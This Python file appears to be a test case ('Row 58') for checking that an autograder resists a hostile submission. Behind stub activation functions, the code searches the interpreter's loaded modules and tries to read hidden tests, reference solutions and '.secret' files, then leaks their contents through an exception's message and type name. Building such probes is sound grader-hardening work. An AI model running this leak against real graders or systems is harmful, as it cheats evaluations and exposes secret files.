"""Row 58: hidden files in an exception.

Tries: reads what it can of the suite, the reference and the settings and raises it as the text, the notes
and the type name of an exception.

A sound grader: lets none of them be opened; nothing of them in the output; 0 points.
"""
import os

import numpy as np


def wrong(name, z, *rest):
    """Minus seven in the right shape: nothing in this file deserves a point."""
    shape = np.shape(z)
    shape = shape[:-1] if name in ("logsumexp", "logsumexp_plus") else shape
    return np.full(shape + shape[-1:] if name == "softmax_jacobian" else shape, -7.0)


def mark(what):
    """Say on stdout and in /tmp/marks that the attack got out."""
    line = "ESCAPED leak_sources_exception: {}\n".format(what).encode("utf-8", "replace")
    try:
        os.write(1, line)
    except OSError:
        pass
    try:
        fd = os.open("/tmp/marks/leak_sources_exception", os.O_WRONLY | os.O_CREAT | os.O_APPEND, 0o666)
        os.write(fd, line)
        os.close(fd)
    except OSError:
        pass


answer = wrong  # what all sixteen functions return; the attack below puts its own in its place


def sigmoid(z): return answer("sigmoid", z)
def sigmoid_grad(z): return answer("sigmoid_grad", z)
def tanh(z): return answer("tanh", z)
def tanh_grad(z): return answer("tanh_grad", z)
def relu(z): return answer("relu", z)
def relu_grad(z): return answer("relu_grad", z)
def softplus(z): return answer("softplus", z)
def softplus_grad(z): return answer("softplus_grad", z)
def logsumexp(z): return answer("logsumexp", z)
def logsumexp_grad(z): return answer("logsumexp_grad", z)
def logsumexp_plus(z): return answer("logsumexp_plus", z)
def logsumexp_plus_grad(z): return answer("logsumexp_plus_grad", z)
def softmax(z): return answer("softmax", z)
def log_softmax(z): return answer("log_softmax", z)
def softmax_jacobian(z): return answer("softmax_jacobian", z)
def softmax_vjp(z, v): return answer("softmax_vjp", z, v)


import gc
import sys


def stolen():
    out = []
    gc.unfreeze()
    for space in [d for d in gc.get_objects() if type(d) is dict and type(d.get("__file__")) is str]:
        path = space["__file__"]
        root = os.path.dirname(os.path.dirname(os.path.dirname(path))) if "autograder" in path else ""
        for name in ("tests/course/01_activations/test_hidden.py", "solutions/01_activations/activations.py", "tests/course/01_activations/mistakes.py", ".secret", "../.secret"):
            for base in (root, os.path.dirname(root), os.getcwd(), "/autograder/source"):
                try:
                    out.append(open(os.path.join(base, name)).read())
                    mark(f"read {base}/{name}")
                except OSError:
                    pass
    return "\n".join(dict.fromkeys(out))


def answer(name, z, *rest):
    text = stolen() + f" cwd={os.getcwd()} argv={sys.argv} path={sys.path} file={__file__}"
    raise type("Leak_" + text[:50], (Exception,), {})(text)
